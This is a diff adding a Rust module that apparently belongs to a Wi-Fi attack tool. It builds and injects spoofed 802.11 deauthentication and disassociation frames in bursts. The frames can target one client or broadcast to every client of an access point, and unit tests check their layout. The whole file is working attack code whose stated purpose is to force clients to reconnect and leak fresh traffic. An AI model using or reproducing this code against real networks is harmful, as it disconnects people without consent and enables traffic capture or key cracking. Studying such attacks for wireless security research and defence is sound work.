@@ -0,0 +1,237 @@
+//Deauthentication / disassociation injection, used to make clients reconnect and send fresh traffic
+
+use std::{fmt::Display, time::Duration};
+
+use anyhow::Context;
+use ieee80211::{Frame, MacAddress};
+
+use crate::{ieee80211::IEEE80211PacketSniffer, shared_key_auth::MANAGEMENT_HEADER_SIZE};
+
+pub const FRAME_CONTROL_DISASSOC: u8 = 0xa0;
+pub const FRAME_CONTROL_DEAUTH: u8 = 0xc0;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DeauthTarget {
+    Client,
+    Broadcast,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DeauthDirection {
+    APToClient,
+    ClientToAP,
+    Both,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DeauthFrameKind {
+    Deauthentication,
+    Disassociation,
+}
+
+impl Display for DeauthTarget {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            DeauthTarget::Client => "target device",
+            DeauthTarget::Broadcast => "broadcast",
+        })
+    }
+}
+
+impl Display for DeauthDirection {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            DeauthDirection::APToClient => "AP -> client",
+            DeauthDirection::ClientToAP => "client -> AP",
+            DeauthDirection::Both => "both",
+        })
+    }
+}
+
+impl Display for DeauthFrameKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            DeauthFrameKind::Deauthentication => "deauthentication",
+            DeauthFrameKind::Disassociation => "disassociation",
+        })
+    }
+}
+
+#[derive(Debug, Clone, Copy)]
+pub struct DeauthSettings {
+    pub target: DeauthTarget,
+    pub direction: DeauthDirection,
+    pub frame_kind: DeauthFrameKind,
+    pub reason_code: u16,
+
+    //Every deauth consists of a burst of frames, as clients might miss / ignore a single one
+    pub burst_count: usize,
+    pub burst_interval: Duration,
+}
+
+impl DeauthSettings {
+    //Inactivity
+    pub const DEFAULT_REASON_CODE: u16 = 4;
+
+    pub const DEFAULT_BURST_COUNT: usize = 8;
+    pub const DEFAULT_BURST_INTERVAL: Duration = Duration::from_millis(5);
+}
+
+impl Default for DeauthSettings {
+    fn default() -> Self {
+        DeauthSettings {
+            target: DeauthTarget::Client,
+            direction: DeauthDirection::Both,
+            frame_kind: DeauthFrameKind::Deauthentication,
+            reason_code: Self::DEFAULT_REASON_CODE,
+            burst_count: Self::DEFAULT_BURST_COUNT,
+            burst_interval: Self::DEFAULT_BURST_INTERVAL,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, Default)]
+pub struct DeauthStats {
+    pub num_bursts: usize,
+    pub num_frames: usize,
+}
+
+pub struct DeauthAttack {
+    ap_mac: MacAddress,
+    client_mac: MacAddress,
+    settings: DeauthSettings,
+    stats: DeauthStats,
+}
+
+impl DeauthAttack {
+    pub fn new(ap_mac: MacAddress, client_mac: MacAddress, settings: DeauthSettings) -> Self {
+        DeauthAttack {
+            ap_mac,
+            client_mac,
+            settings,
+            stats: DeauthStats::default(),
+        }
+    }
+
+    pub const fn ap_mac(&self) -> MacAddress {
+        self.ap_mac
+    }
+
+    pub const fn client_mac(&self) -> MacAddress {
+        self.client_mac
+    }
+
+    pub const fn settings(&self) -> &DeauthSettings {
+        &self.settings
+    }
+
+    pub const fn stats(&self) -> &DeauthStats {
+        &self.stats
+    }
+
+    //Injects one burst of frames, and returns the statistics of it
+    pub fn send_burst(
+        &mut self,
+        sniffer: &mut IEEE80211PacketSniffer,
+    ) -> anyhow::Result<DeauthStats> {
+        let frames = self.build_frames();
+
+        let mut burst_stats = DeauthStats {
+            num_bursts: 1,
+            num_frames: 0,
+        };
+        for i in 0..self.settings.burst_count {
+            if i > 0 && !self.settings.burst_interval.is_zero() {
+                std::thread::sleep(self.settings.burst_interval);
+            }
+
+            for frame in &frames {
+                sniffer
+                    .inject_frame(&Frame::new(frame.clone()))
+                    .with_context(|| {
+                        format!("failed to inject {} frame", self.settings.frame_kind)
+                    })?;
+                burst_stats.num_frames += 1;
+            }
+        }
+
+        self.stats.num_bursts += burst_stats.num_bursts;
+        self.stats.num_frames += burst_stats.num_frames;
+        Ok(burst_stats)
+    }
+
+    fn build_frames(&self) -> Vec<Vec<u8>> {
+        let client_mac = match self.settings.target {
+            DeauthTarget::Client => self.client_mac,
+            DeauthTarget::Broadcast => MacAddress::new([0xff; 6]),
+        };
+
+        //A broadcast can't be spoofed as coming from the clients
+        let (from_ap, from_client) = match (self.settings.direction, self.settings.target) {
+            (DeauthDirection::APToClient, _) | (_, DeauthTarget::Broadcast) => (true, false),
+            (DeauthDirection::ClientToAP, _) => (false, true),
+            (DeauthDirection::Both, _) => (true, true),
+        };
+
+        let mut frames = Vec::with_capacity(2);
+        if from_ap {
+            frames.push(self.build_frame(&client_mac, &self.ap_mac));
+        }
+        if from_client {
+            frames.push(self.build_frame(&self.ap_mac, &client_mac));
+        }
+        frames
+    }
+
+    fn build_frame(&self, receiver: &MacAddress, transmitter: &MacAddress) -> Vec<u8> {
+        let frame_control = match self.settings.frame_kind {
+            DeauthFrameKind::Deauthentication => FRAME_CONTROL_DEAUTH,
+            DeauthFrameKind::Disassociation => FRAME_CONTROL_DISASSOC,
+        };
+
+        let mut frame = Vec::with_capacity(MANAGEMENT_HEADER_SIZE + 2);
+        frame.extend_from_slice(&[frame_control, 0]); //Frame control
+        frame.extend_from_slice(&[0, 0]); //Duration
+        frame.extend_from_slice(receiver.as_bytes());
+        frame.extend_from_slice(transmitter.as_bytes());
+        frame.extend_from_slice(self.ap_mac.as_bytes());
+        frame.extend_from_slice(&[0, 0]); //Sequence control
+        frame.extend_from_slice(&self.settings.reason_code.to_le_bytes());
+        frame
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_deauth_frames() {
+        let ap = MacAddress::new([0x02, 0, 0, 0, 0, 1]);
+        let client = MacAddress::new([0x02, 0, 0, 0, 0, 2]);
+
+        let mut settings = DeauthSettings {
+            reason_code: 7,
+            ..DeauthSettings::default()
+        };
+
+        //Both directions are spoofed for a single client by default
+        let frames = DeauthAttack::new(ap, client, settings).build_frames();
+        assert_eq!(frames.len(), 2);
+        assert_eq!(frames[0][..2], [FRAME_CONTROL_DEAUTH, 0]);
+        assert_eq!(frames[0][4..10], *client.as_bytes());
+        assert_eq!(frames[0][10..16], *ap.as_bytes());
+        assert_eq!(frames[1][4..10], *ap.as_bytes());
+        assert_eq!(frames[1][10..16], *client.as_bytes());
+        assert_eq!(frames[1][16..22], *ap.as_bytes());
+        assert_eq!(frames[1][24..], [7, 0]);
+
+        //Broadcasts can only come from the AP
+        settings.target = DeauthTarget::Broadcast;
+        settings.frame_kind = DeauthFrameKind::Disassociation;
+        let frames = DeauthAttack::new(ap, client, settings).build_frames();
+        assert_eq!(frames.len(), 1);
+        assert_eq!(frames[0][0], FRAME_CONTROL_DISASSOC);
+        assert_eq!(frames[0][4..10], [0xff; 6]);
+    }
+}